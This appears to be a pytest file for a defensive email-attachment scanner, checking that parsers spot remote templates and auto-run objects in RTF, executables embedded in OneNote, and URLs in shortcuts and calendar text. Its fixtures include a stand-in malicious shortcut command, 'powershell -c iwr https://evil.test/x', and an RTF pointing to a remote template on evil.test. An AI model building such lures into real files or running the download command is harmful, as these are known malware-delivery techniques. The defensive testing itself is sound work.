"""Small looks into the other carriers."""

import struct

from mailkeep.facts.read import carriers

from .containers import EXE


def test_rtf_objects_and_remote_templates_are_seen() -> None:
    inside = carriers.read_rtf(rb"{\rtf1{\*\template http://evil.test/t.rtf}{\object\objemb\objupdate{\*\objdata 01}}}")
    assert inside.external_template == "http://evil.test/t.rtf"
    assert inside.auto_run
    assert inside.members
    assert carriers.read_rtf(rb"{\rtf1 hello}").members == ()


def test_files_embedded_in_onenote_are_told_by_their_bytes() -> None:
    head = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac")
    section = b"".join(head + struct.pack("<Q", len(data)) + bytes(12) + data for data in (EXE, b"\x89PNG\r\n\x1a\n"))
    inside = carriers.read_onenote(section)
    assert inside.members == ("embedded-1.exe", "embedded-2.png")
    assert inside.dangerous_members == ("embedded-1.exe",)


def test_a_shortcut_shows_its_strings() -> None:
    command = "powershell -c iwr https://evil.test/x"
    inside = carriers.read_shortcut(b"\x4c\0\0\0" + command.encode("utf-16-le"))
    assert command in inside.text
    assert inside.urls == ("https://evil.test/x",)


def test_text_is_read_where_people_read_it() -> None:
    assert carriers.read_text("ics", b"LOCATION:https://evil.test/m").urls == ("https://evil.test/m",)
    assert carriers.read_text("exe", b"https://evil.test").urls == ()
